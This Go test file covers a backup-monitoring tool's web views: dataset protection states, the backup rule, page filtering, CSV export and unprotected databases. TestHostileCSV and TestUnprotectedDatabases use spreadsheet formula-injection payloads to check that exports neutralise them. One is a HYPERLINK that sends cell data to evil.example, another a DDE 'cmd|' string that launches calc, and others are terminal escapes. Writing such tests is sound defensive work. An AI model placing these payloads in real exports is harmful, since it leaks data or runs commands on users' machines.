package web_test

import (
	"encoding/csv"
	"encoding/json"
	"errors"
	"net/http"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"golang.org/x/net/html"

	holdfast "github.com/holdfast-monitor/holdfast"
	"github.com/holdfast-monitor/holdfast/collector/web"
)

// protected returns the row of a dataset.
func protected(t *testing.T, e *estate, service, dataset string) web.ProtectedDataset {
	t.Helper()
	for _, d := range web.Datasets(e) {
		if d.Service == service && d.Dataset == dataset {
			return d
		}
	}
	t.Fatalf("no row for %s/%s", service, dataset)
	return web.ProtectedDataset{}
}

// TestDatasetStands: a dataset stands as the worst of its scenarios does for it,
// and says why.
func TestDatasetStands(t *testing.T) {
	e := newEstate(t, at(noon), troubled(noon))
	for _, c := range []struct {
		service, dataset string
		state            holdfast.State
		reason           string
	}{
		{"payments", "ledger", holdfast.Proven, ""},
		{"payments", "sessions", holdfast.NotJudged, "left out of recovery: customers put their card in again"},
		{"identity", "directory", holdfast.Uncovered, "0 of team payments-team"},
		{"shop", "catalogue", holdfast.Broken, "3 of 1204 packs fail their checksum"},
		{"wiki", "pages", holdfast.Unknown, "never observed"},
		{"warehouse", "stock", holdfast.Stale, "last restored 2025-12-02"},
		{"reporting", "cube", holdfast.Untested, "never restored completely"},
	} {
		d := protected(t, e, c.service, c.dataset)
		if d.State != c.state || !strings.Contains(d.Reason, c.reason) {
			t.Errorf("%s/%s: got %s, %q; want %s, …%s…", c.service, c.dataset, d.State, d.Reason, c.state, c.reason)
		}
	}
}

// TestMissedRPOIsTheGuiltyDatasets: of datasets restored together the one whose
// copy is too old misses the RPO, not the other.
func TestMissedRPOIsTheGuiltyDatasets(t *testing.T) {
	e := newEstate(t, at(noon), func(o *holdfast.Observation) {
		if o.Check == "payments/receipts/vault" {
			for i := range o.RecoveryPoints {
				o.RecoveryPoints[i].Time = o.RecoveryPoints[i].Time.Add(-20 * time.Minute)
			}
		}
	})
	ledger, receipts := protected(t, e, "payments", "ledger"), protected(t, e, "payments", "receipts")
	if ledger.State != holdfast.Proven {
		t.Errorf("ledger, 2 min old: got %s (%s), want proven", ledger.State, ledger.Reason)
	}
	if receipts.State != holdfast.Degraded || !strings.Contains(receipts.Reason, "payments/receipts/vault") {
		t.Errorf("receipts, 22 min old of 15: got %s (%s), want degraded by its copy", receipts.State, receipts.Reason)
	}
}

// TestRuleParts: 3-2-1-1-0 part by part; what was never verified has shown nothing.
func TestRuleParts(t *testing.T) {
	e := newEstate(t, at(noon), troubled(noon))
	verdicts := func(service, dataset string) (list []holdfast.Verdict) {
		for _, r := range protected(t, e, service, dataset).Rule {
			list = append(list, r.Verdict)
		}
		return list
	}
	const met, unmet, unknown = holdfast.Met, holdfast.Unmet, holdfast.VerdictUnknown
	for _, c := range []struct {
		service, dataset string
		want             []holdfast.Verdict
	}{
		{"payments", "receipts", []holdfast.Verdict{unmet, met, met, met, met}},
		{"payments", "sessions", []holdfast.Verdict{unmet, unmet, unmet, unmet, unknown}},
		{"shop", "catalogue", []holdfast.Verdict{met, met, met, met, unmet}},    // the vault is damaged, though its last verification was clean
		{"payments", "ledger", []holdfast.Verdict{met, met, met, met, unknown}}, // hourly and tape were never verified
	} {
		if diff := cmp.Diff(c.want, verdicts(c.service, c.dataset)); diff != "" {
			t.Errorf("%s/%s (-want +got):\n%s", c.service, c.dataset, diff)
		}
	}
	check := e.catalogue.Check("payments/restore-in-ams/intact/receipts")
	bad := seen(check, noon)
	bad.Seq, bad.Outcome, bad.Verification = 2, holdfast.Failed, &holdfast.Verification{Time: noon.Add(-10 * time.Second), Scope: 1, Errors: 3}
	bad.At, bad.Received = noon, noon
	e.observe(bad)
	if got := verdicts("payments", "receipts")[4]; got != unmet {
		t.Errorf("after a verification with errors: got %s, want unmet", got)
	}
}

// rowsOf are the datasets a page shows, in order.
func rowsOf(t *testing.T, h http.Handler, target string) []string {
	t.Helper()
	var names []string
	for _, n := range find(page(t, h, target), class("c-nm")) {
		if n.Data == "th" && attr(n, "role") == "rowheader" {
			names = append(names, words(find(n, tag("b"))[0]))
		}
	}
	return names
}

func TestDataPage(t *testing.T) {
	e := newEstate(t, at(noon), troubled(noon))
	h := handler(t, e)
	doc := page(t, h, "/data")
	if got := words(one(t, doc, "h1", tag("h1"))); got != "2 of 8 datasets are protected as agreed." {
		t.Errorf("sentence: got %q", got)
	}
	for _, b := range find(doc, class("bul")) {
		for _, r := range find(b, class("tgt")) {
			if attr(r, "x") != "62.5%" {
				t.Errorf("target at %s, want 62.5%%", attr(r, "x"))
			}
		}
	}
	for query, want := range map[string]string{
		"": "directory catalogue pages cube stock ledger receipts sessions", "?only=problems": "directory catalogue pages cube stock",
		"?sort=dataset": "directory ledger receipts sessions cube catalogue stock pages", "?sort=-dataset&service=payments": "sessions receipts ledger",
		"?only=unrestored": "pages cube sessions", "?state=stale": "stock", "?site=vault-eu&owner=payments-team": "ledger receipts", "?q=INTERNAL": "pages",
		"?q=nothing-like-it": "", "?sort=restored&only=problems": "cube pages stock directory catalogue", "?sort=nonsense": "directory catalogue pages cube stock ledger receipts sessions",
	} {
		if got := strings.Join(rowsOf(t, h, "/data"+query), " "); got != want {
			t.Errorf("/data%s: got %q, want %q", query, got, want)
		}
	}
	sorted := find(page(t, h, "/data?sort=restored"), func(n *html.Node) bool { return attr(n, "aria-sort") != "" })
	if len(sorted) != 1 || attr(sorted[0], "aria-sort") != "ascending" || attr(find(sorted[0], tag("a"))[0], "href") != "/data?sort=-restored" {
		t.Errorf("head of the sorted column: got %v", sorted)
	}
	evidence := 0
	for _, a := range find(doc, tag("a")) {
		service, hash, ok := strings.Cut(attr(a, "href"), "#")
		if !ok || !strings.HasPrefix(service, "/services/") {
			continue
		}
		if evidence++; len(find(page(t, h, service), id(hash))) != 1 {
			t.Errorf("evidence %s leads nowhere", attr(a, "href"))
		}
	}
	if evidence < 10 {
		t.Errorf("got %d links to evidence, want at least 10", evidence)
	}
}

func TestNoData(t *testing.T) {
	e := newEstate(t, at(noon))
	e.postures, e.catalogue = nil, &holdfast.Catalogue{Policy: holdfast.DefaultPolicy()}
	if got := words(one(t, page(t, handler(t, e), "/data"), "first steps", id("first"))); !strings.Contains(got, "holdfast catalog validate") {
		t.Errorf("first steps name no command: %q", got)
	}
}

// readCSV reads an answer as a spreadsheet would.
func readCSV(t *testing.T, h http.Handler, target string, header ...string) (columns map[string]int, lines [][]string) {
	t.Helper()
	resp := ask(t, h, "auditor", "GET", target, "", header...)
	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8; header=present" || !strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment; ") {
		t.Fatalf("%s: got %d, %s, %s", target, resp.StatusCode, resp.Header.Get("Content-Type"), resp.Header.Get("Content-Disposition"))
	}
	lines, err := csv.NewReader(strings.NewReader(text(t, resp))).ReadAll() // refuses lines of unequal length
	if err != nil {
		t.Fatal(err)
	}
	columns = map[string]int{}
	for i, name := range lines[0] {
		columns[name] = i
	}
	return columns, lines[1:]
}

// TestCSV: the same rows in the same order as the page, with units in the heads.
func TestCSV(t *testing.T) {
	h := handler(t, newEstate(t, at(noon), troubled(noon)))
	for _, target := range []string{"/data.csv", "/data?format=csv"} {
		columns, lines := readCSV(t, h, target+strings.Replace("?only=problems", "?", map[bool]string{true: "&", false: "?"}[strings.Contains(target, "?")], 1))
		var names []string
		for _, l := range lines {
			names = append(names, l[columns["dataset"]])
		}
		if got, want := strings.Join(names, " "), "directory catalogue pages cube stock"; got != want {
			t.Errorf("%s: got %q, want %q", target, got, want)
		}
		stock := lines[4]
		for column, want := range map[string]string{
			"as_of": "2026-06-20T12:00:00Z", "state": "stale", "exposure_seconds": "120", "rpo_seconds": "43200", "recovery_point": "2026-06-20T11:58:00Z",
			"restore_seconds": "360", "restore_share": "1", "bytes": "12884901888", "rule_3_copies": "met: 3 copies, the primary included", "last_heard": "2026-06-20T11:59:40Z",
		} {
			if got := stock[columns[column]]; got != want {
				t.Errorf("%s: %s: got %q, want %q", target, column, got, want)
			}
		}
	}
	columns, lines := readCSV(t, h, "/data?service=payments&each=copy", "Accept", "text/csv")
	var copies []string
	for _, l := range lines {
		copies = append(copies, l[columns["dataset"]]+"/"+l[columns["copy"]])
	}
	if got, want := strings.Join(copies, " "), "ledger/primary ledger/hourly ledger/offsite ledger/standby ledger/tape receipts/primary receipts/vault sessions/primary"; got != want {
		t.Errorf("copies: got %q, want %q", got, want)
	}
	tape := lines[slices.Index(copies, "ledger/tape")]
	if tape[columns["offline"]] != "true" || tape[columns["offline_known"]] != "declared" || tape[columns["last_heard"]] != "" {
		t.Errorf("tape: got %v", tape)
	}
}

// TestHostileCSV: no cell is a formula, breaks its line, moves the terminal or has
// no end, whatever stands in the texts.
func TestHostileCSV(t *testing.T) {
	hostile := map[string]string{
		"formula": `=HYPERLINK("http://evil.example/?x="&A1)`, "plus": "+1+cmd|' /C calc'!A0", "minus": "-2+3", "at": "@SUM(A1)", "tab": "\t=1", "return": "\r=1",
		"behind spaces": "  =1+1", "full width": "＝1+1", "quotes": `a","b"` + "\r\n" + `=1`, "newline": "a\n=cmd()", "ansi": "\x1b]0;x\x07\u009b2J", "turning": "pay\u202egpj",
		"bad utf-8": "a\xff\xfe", "long": "=" + strings.Repeat("x", 1<<20),
	}
	for name, bad := range hostile {
		t.Run(name, func(t *testing.T) {
			e := newEstate(t, at(noon), troubled(noon))
			for i := range e.postures {
				p := clonePosture(e.postures[i])
				p.Title, p.Owner, p.Site = bad, bad, bad
				p.Data = slices.Clone(p.Data)
				for k := range p.Data {
					p.Data[k].Title, p.Data[k].Copies = bad, slices.Clone(p.Data[k].Copies)
					for n := range p.Data[k].Copies {
						c := &p.Data[k].Copies[n]
						c.Medium, c.Site, c.Reason, c.Through = bad, bad, bad, bad
					}
				}
				for k := range p.Findings {
					p.Findings[k].Reason = bad
				}
				e.postures[i] = p
			}
			for _, target := range []string{"/data.csv", "/data.csv?each=copy"} {
				plain, _ := readCSV(t, handler(t, newEstate(t, at(noon), troubled(noon))), target)
				columns, lines := readCSV(t, handler(t, e), target)
				if len(columns) != len(plain) || len(lines) < 8 {
					t.Fatalf("%s: got %d columns and %d lines", target, len(columns), len(lines))
				}
				for _, l := range lines {
					for _, cell := range l {
						if strings.HasPrefix(strings.TrimLeft(cell, " \t\r\n\uFFFD"), "=") || cell != "" && strings.ContainsRune("=+-@\t\r＝", []rune(cell)[0]) {
							t.Fatalf("%s: a formula: %.60q", target, cell)
						}
						if strings.ContainsAny(cell, "\x00\x07\x1b\u009b\u202e") || len(cell) > 8<<10 || !reflect.DeepEqual(cell, strings.ToValidUTF8(cell, "")) {
							t.Fatalf("%s: a cell of %d bytes that is not plain: %.60q", target, len(cell), cell)
						}
					}
				}
			}
		})
	}
}

// TestDataRestores: an opened row draws its latest restore tests; a history that
// cannot be read leaves the row.
func TestDataRestores(t *testing.T) {
	e := newEstate(t, at(noon))
	remember(e)
	h := handler(t, e)
	ledger := func() *html.Node { return one(t, page(t, h, "/data?q=ledger"), "table", class("sheet")) }
	if got := len(find(ledger(), class("dot"))); got < 5 {
		t.Errorf("got %d dots, want one a test", got)
	}
	if got := words(ledger()); !strings.Contains(got, "Latest restore tests") {
		t.Errorf("row says %q", got)
	}
	e.broken = errors.New("disk gone")
	if got := words(one(t, page(t, handler(t, e), "/data"), "h1", tag("h1"))); !strings.Contains(got, "datasets are protected") {
		t.Errorf("without its history the page says %q", got)
	}
}

// TestUnprotectedDatabases: the page, the CSV and the API tell of the same
// databases; on the page those of which no backup was seen come first.
func TestUnprotectedDatabases(t *testing.T) {
	e := newEstate(t, at(noon), troubled(noon))
	e.found.Unprotected[0].Path = `=cmd|' /C calc'!A0`
	h := handler(t, e)
	page := text(t, ask(t, h, "viewer", "GET", "/data", ""))
	for _, want := range []string{
		"4 of 9 databases found on the hosts of 4 agents are covered by no check; of 3 no backup was seen at all.",
		"15/loyalty", "version 15, running on port 5433", "in container 4f0c9d1be2aa", "mysqldump by cron /etc/cron.d/wiki:4", "/var/lib/private", `href="/agents/wiki1"`,
	} {
		if !strings.Contains(page, want) {
			t.Errorf("the page lacks %q", want)
		}
	}
	if strings.Index(page, "grafana.db") > strings.Index(page, "mysqldump by cron") {
		t.Error("a database with a backup stands before one without")
	}
	lines, err := csv.NewReader(strings.NewReader(text(t, ask(t, h, "viewer", "GET", "/data.csv?each=database", "")))).ReadAll()
	if err != nil || len(lines) != 5 || lines[1][7] != `'=cmd|' /C calc'!A0` || lines[3][14] != strings.Join(e.found.Unprotected[2].Seen, "; ") {
		t.Errorf("CSV %v, %v, want four databases, no formula, and the backups seen", lines, err)
	}
	var got []string
	for cursor := ""; ; {
		var a web.UnprotectedDatabases
		if err := json.Unmarshal([]byte(text(t, ask(t, h, "viewer", "GET", "/api/v1/data/unprotected?limit=3&cursor="+cursor, ""))), &a); err != nil {
			t.Fatal(err)
		}
		for _, x := range a.Databases {
			got = append(got, x.Agent+" "+x.Kind)
		}
		if a.Total != 4 || a.Found != 9 || a.Agents != 4 || len(a.Unread) != 1 {
			t.Errorf("got %+v, want 4 of 9 of 4 agents, one of which may not look everywhere", a)
		}
		if cursor = a.Next.Next; cursor == "" {
			break
		}
	}
	if diff := cmp.Diff(got, []string{"db1 postgresql", "db1 sqlite", "wiki1 mariadb", "wiki1 redis"}); diff != "" {
		t.Errorf("by the API, three at a time (-got +want):\n%s", diff)
	}

	e.found = holdfast.Discovery{Agents: 2, Databases: 3}
	if page := text(t, ask(t, handler(t, e), "viewer", "GET", "/data", "")); !strings.Contains(page, "Each of the 3 databases found on the hosts of 2 agents is covered by a check.") {
		t.Error("the page does not say that all is covered")
	}
	e.found = holdfast.Discovery{}
	if page := text(t, ask(t, handler(t, e), "viewer", "GET", "/data", "")); strings.Contains(page, "Databases nothing protects") {
		t.Error("the page tells of databases although nobody has looked")
	}
}
